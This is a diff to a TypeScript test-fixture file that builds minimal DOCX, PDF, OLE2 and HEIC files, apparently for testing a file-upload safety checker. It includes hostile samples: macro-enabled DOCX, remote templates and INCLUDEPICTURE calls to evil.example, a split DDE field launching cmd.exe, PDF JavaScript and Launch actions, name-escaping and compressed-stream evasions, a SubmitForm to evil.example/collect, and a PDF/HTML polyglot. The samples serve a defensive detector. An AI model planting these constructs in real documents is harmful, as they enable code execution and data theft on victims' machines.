@@ -108,8 +108,11 @@ export function webpWithMetadata() {
   return { file: riff([vp8x(0x20 | 0x08 | 0x04), iccp, vp8l, exif, xmp]), stripped: riff([vp8x(0x20), iccp, vp8l]) };
 }
 
+/** A small PDF; `extra` (text that makes files differ) goes in a comment before the trailer, not after the end. */
 export const pdfFile = (extra = '') =>
-  Buffer.concat([ascii('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'), ascii(extra)]);
+  ascii(
+    `%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\n${extra ? `% ${extra.replace(/[\r\n]+/g, ' ')}\n` : ''}trailer<</Root 1 0 R>>\n%%EOF\n`,
+  );
 
 /** A ZIP of `entries` (stored, or deflated when `deflate`), optionally declaring other sizes. */
 export function zipOf(entries: { name: string; data: Buffer; deflate?: boolean; declaredSize?: number }[]): Buffer {
@@ -147,16 +150,113 @@ export function zipOf(entries: { name: string; data: Buffer; deflate?: boolean; 
   return Buffer.concat([...locals, directory, end]);
 }
 
-const contentTypes = ascii('<?xml version="1.0"?><Types><Override PartName="/word/document.xml"/></Types>');
+const contentTypes = ascii(
+  '<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
+);
 
-export const docxFile = () =>
-  zipOf([
-    { name: '[Content_Types].xml', data: contentTypes, deflate: true },
-    { name: 'word/document.xml', data: ascii('<w:document><w:body>Resume</w:body></w:document>'), deflate: true },
-  ]);
+const documentXml = (body = '<w:p><w:r><w:t>Resume</w:t></w:r></w:p>') =>
+  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
+const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const rels = (...items: string[]) =>
+  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${items.join('')}</Relationships>`;
 
-/** A minimal OLE2 compound file: a FAT sector and a directory with the root and one stream. */
-export function cfbFile(streamName = 'WordDocument'): Buffer {
+/**
+ * A DOCX; `parts` are added to (or replace) the two every Word document has, `types` replaces its
+ * [Content_Types].xml. With a web link in its relationships, as a resume has (a LinkedIn profile).
+ */
+export function docxFile({ parts = [], types }: { parts?: { name: string; data: string | Buffer }[]; types?: string } = {}): Buffer {
+  const base = [
+    { name: '[Content_Types].xml', data: types ?? contentTypes },
+    { name: 'word/document.xml', data: ascii(documentXml()) },
+    {
+      name: 'word/_rels/document.xml.rels',
+      data: rels(`<Relationship Id="rId9" Type="${REL}/hyperlink" Target="https://www.linkedin.com/in/jane" TargetMode="External"/>`),
+    },
+  ];
+  const all = [...base.filter((b) => !parts.some((p) => p.name === b.name)), ...parts];
+  return zipOf(all.map((p) => ({ name: p.name, data: typeof p.data === 'string' ? Buffer.from(p.data) : p.data, deflate: true })));
+}
+
+/** DOCX files an office PC would run something from, one per way (docs/decisions/021-file-safety.md). */
+export const hostileDocx = {
+  macros: () =>
+    docxFile({
+      types:
+        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+      parts: [{ name: 'word/vbaProject.bin', data: cfbFile('PROJECT') }],
+    }),
+  macroEnabledType: () =>
+    docxFile({
+      types:
+        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
+    }),
+  remoteTemplate: () =>
+    docxFile({
+      parts: [
+        { name: 'word/settings.xml', data: '<w:settings><w:attachedTemplate r:id="rId1"/></w:settings>' },
+        {
+          name: 'word/_rels/settings.xml.rels',
+          data: rels(`<Relationship Id="rId1" Type="${REL}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`),
+        },
+      ],
+    }),
+  externalImage: () =>
+    docxFile({
+      parts: [
+        {
+          name: 'word/_rels/document.xml.rels',
+          data: rels(`<Relationship Id="rId5" Type="${REL}/image" Target="\\\\evil.example\\share\\a.png" TargetMode="External"/>`),
+        },
+      ],
+    }),
+  fileHyperlink: () =>
+    docxFile({
+      parts: [
+        {
+          name: 'word/_rels/document.xml.rels',
+          data: rels(
+            `<Relationship Id="rId5" Type="${REL}/hyperlink" Target="file:///C:/Windows/System32/calc.exe" TargetMode="External"/>`,
+          ),
+        },
+      ],
+    }),
+  altChunk: () =>
+    docxFile({
+      parts: [
+        { name: 'word/afchunk.mht', data: 'MIME-Version: 1.0\r\n\r\n<html><script>x</script></html>' },
+        { name: 'word/_rels/document.xml.rels', data: rels(`<Relationship Id="rId7" Type="${REL}/aFChunk" Target="afchunk.mht"/>`) },
+      ],
+    }),
+  embeddedObject: () => docxFile({ parts: [{ name: 'word/embeddings/oleObject1.bin', data: cfbFile('\u0001Ole10Native') }] }),
+  // A DDE field split over two runs, as real attacks do to slip past a plain search.
+  dde: () =>
+    docxFile({
+      parts: [
+        {
+          name: 'word/document.xml',
+          data: documentXml(
+            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>' +
+              '<w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
+          ),
+        },
+      ],
+    }),
+  remoteInclude: () =>
+    docxFile({
+      parts: [
+        {
+          name: 'word/header1.xml',
+          data: '<w:hdr><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \\d "/></w:hdr>',
+        },
+      ],
+    }),
+};
+
+/**
+ * A minimal OLE2 compound file: a FAT sector and a directory with the root and one stream, and
+ * up to two more entries (e.g. a "Macros" storage, type 1, or an "\u0001Ole10Native" stream, type 2).
+ */
+export function cfbFile(streamName = 'WordDocument', extra: { name: string; type: 1 | 2 }[] = []): Buffer {
   const file = Buffer.alloc(512 * 3, 0);
   Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(file);
   file.writeUInt16LE(0x3e, 0x18);
@@ -182,5 +282,140 @@ export function cfbFile(streamName = 'WordDocument'): Buffer {
   };
   entry(0, 'Root Entry', 5);
   entry(1, streamName, 2);
+  extra.slice(0, 2).forEach((e, i) => entry(2 + i, e.name, e.type));
   return file;
 }
+
+/** A PDF from its parts (objects as text), with a cross-reference-free trailer; readers rebuild the table. */
+const pdfOf = (...objects: (string | Buffer)[]) =>
+  Buffer.concat([
+    ascii('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n'),
+    ...objects.map((o) => (typeof o === 'string' ? ascii(`${o}\n`) : o)),
+    ascii('trailer<</Root 1 0 R>>\n%%EOF\n'),
+  ]);
+
+/** An object stream (PDF 1.5+): objects packed and deflated, where a plain search of the file sees nothing. */
+function objectStream(number: number, objects: string): Buffer {
+  const packed = deflateSync(ascii(objects));
+  return Buffer.concat([
+    ascii(`${number} 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n`),
+    packed,
+    ascii('\nendstream\nendobj\n'),
+  ]);
+}
+
+/** PDFs an office PC would run something from, one per way, and ones that look alike but are fine. */
+export const hostilePdf = {
+  javascript: () => pdfOf('1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 3 0 R>>endobj', '3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj'),
+  // /J#61vaScript is /JavaScript; /J#53 is /JS.
+  escapedNames: () =>
+    pdfOf(
+      '1 0 obj<</Type/Catalog/Names<</J#61vaScript 4 0 R>>>>endobj',
+      '4 0 obj<</Names[(x)5 0 R]>>endobj',
+      '5 0 obj<</S/J#61vaScript/J#53(this.print())>>endobj',
+    ),
+  launch: () => pdfOf('1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)/P(/c calc)>>>>endobj'),
+  pageOpenAction: () =>
+    pdfOf('1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj', '3 0 obj<</Type/Page/AA<</O<</S/URI/URI(https://evil.example)>>>>>>endobj'),
+  embeddedFile: () =>
+    pdfOf(
+      '1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 6 0 R>>>>endobj',
+      Buffer.concat([ascii('7 0 obj<</Type/EmbeddedFile/Length 4>>stream\n'), ascii('MZ\x90\0'), ascii('\nendstream\nendobj\n')]),
+    ),
+  submitForm: () =>
+    pdfOf(
+      '1 0 obj<</Type/Catalog/AcroForm<</Fields[8 0 R]>>>>endobj',
+      '8 0 obj<</FT/Btn/A<</S/SubmitForm/F(https://evil.example/collect)>>>>endobj',
+    ),
+  // The catalog and its action inside a compressed object stream: only inflating finds them.
+  packedJavascript: () =>
+    pdfOf(objectStream(9, '1 0 <</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL("https://evil.example"))>>>>')),
+  // An object stream that is not deflate at all, as an encrypted PDF's are: it cannot be checked.
+  unreadableObjects: () =>
+    pdfOf(
+      Buffer.concat([
+        ascii('9 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 64>>stream\n'),
+        Buffer.alloc(64, 0xa7),
+        ascii('\nendstream\nendobj\n'),
+      ]),
+    ),
+  // A page glued after the end: a PDF/HTML polyglot.
+  htmlAfterEnd: () => Buffer.concat([pdfFile(), ascii('<html><script>alert(1)</script></html>')]),
+};
+
+/** PDFs that resemble the hostile ones and are what bills and scans really are: taken. */
+export const harmlessPdf = {
+  // "Open at page 1, fit to the window": a destination, not an action.
+  openAtPage: () => pdfOf('1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>endobj'),
+  // A link the reader clicks, as every bill has.
+  webLink: () =>
+    pdfOf('1 0 obj<</Type/Catalog>>endobj', '4 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(https://www.pge.com/pay)>>>>endobj'),
+  // A compressed page whose bytes happen to hold "/JS " and "/AA ": stream data is never a dictionary.
+  binaryLookalike: () =>
+    pdfOf(
+      '1 0 obj<</Type/Catalog>>endobj',
+      Buffer.concat([
+        ascii('5 0 obj<</Length 40>>stream\n'),
+        ascii('\x8f\x02/JS \x01\xff/AA \x00\x13/Launch \x9c'),
+        ascii('\nendstream\nendobj\n'),
+      ]),
+    ),
+  // Objects packed in a stream, harmless ones: read and taken.
+  packedPlain: () => pdfOf(objectStream(9, '1 0 <</Type/Catalog/Pages 2 0 R>>')),
+};
+
+const u16 = (n: number) => Buffer.from([n >> 8, n & 0xff]);
+const u32 = (n: number) => {
+  const b = Buffer.alloc(4);
+  b.writeUInt32BE(n);
+  return b;
+};
+const bmffBox = (type: string, ...parts: Buffer[]) => {
+  const body = Buffer.concat(parts);
+  return Buffer.concat([u32(8 + body.length), ascii(type), body]);
+};
+const fullBox = (type: string, version: number, ...parts: Buffer[]) => bmffBox(type, Buffer.from([version, 0, 0, 0]), ...parts);
+
+/**
+ * A HEIC as a phone writes its structure (ftyp, meta with hdlr/pitm/iinf/iloc, mdat): the image
+ * item, an Exif item carrying the stand-in for GPS, and an XMP (mime) item. `image` is the coded
+ * picture's bytes, which must come out untouched; `trailer` goes after the last box.
+ */
+export function heicWithMetadata({ trailer = Buffer.alloc(0), topBoxes = [] as Buffer[] } = {}) {
+  const image = ascii('HEVC-CODED-PICTURE-'.repeat(8));
+  const exif = Buffer.concat([u32(6), ascii('Exif\0\0'), exifApp1().subarray(6)]);
+  const xmp = ascii('<x:xmpmeta><rdf:Description exif:GPSLatitude="GPS-SECRET-XMP"/></x:xmpmeta>');
+  const ftyp = bmffBox('ftyp', ascii('heic'), u32(0), ascii('mif1'), ascii('heic'));
+  const infe = (id: number, type: string, extra = Buffer.alloc(0)) =>
+    fullBox('infe', 2, u16(id), u16(0), ascii(type), Buffer.from([0]), extra);
+  const meta = (offsets: number[]) =>
+    fullBox(
+      'meta',
+      0,
+      fullBox('hdlr', 0, u32(0), ascii('pict'), Buffer.alloc(12), Buffer.from([0])),
+      fullBox('pitm', 0, u16(1)),
+      fullBox(
+        'iinf',
+        0,
+        u16(3),
+        infe(1, 'hvc1'),
+        infe(2, 'Exif'),
+        infe(3, 'mime', Buffer.concat([ascii('application/rdf+xml'), Buffer.from([0])])),
+      ),
+      fullBox(
+        'iloc',
+        0,
+        u16(0x4400), // 4-byte offsets and lengths, no base offset
+        u16(3),
+        ...[image, exif, xmp].map((part, i) => Buffer.concat([u16(i + 1), u16(0), u16(1), u32(offsets[i]!), u32(part.length)])),
+      ),
+    );
+  const metaLength = meta([0, 0, 0]).length;
+  const mdatStart = ftyp.length + metaLength + topBoxes.reduce((n, b) => n + b.length, 0) + 8;
+  const offsets = [mdatStart, mdatStart + image.length, mdatStart + image.length + exif.length];
+  const file = Buffer.concat([ftyp, meta(offsets), ...topBoxes, bmffBox('mdat', image, exif, xmp), trailer]);
+  return { file, image, imageAt: mdatStart };
+}
+
+/** A box as a test wants to add one at the top level (a movie box, a vendor uuid box). */
+export const topLevelBox = (type: string, body: Buffer) => bmffBox(type, body);
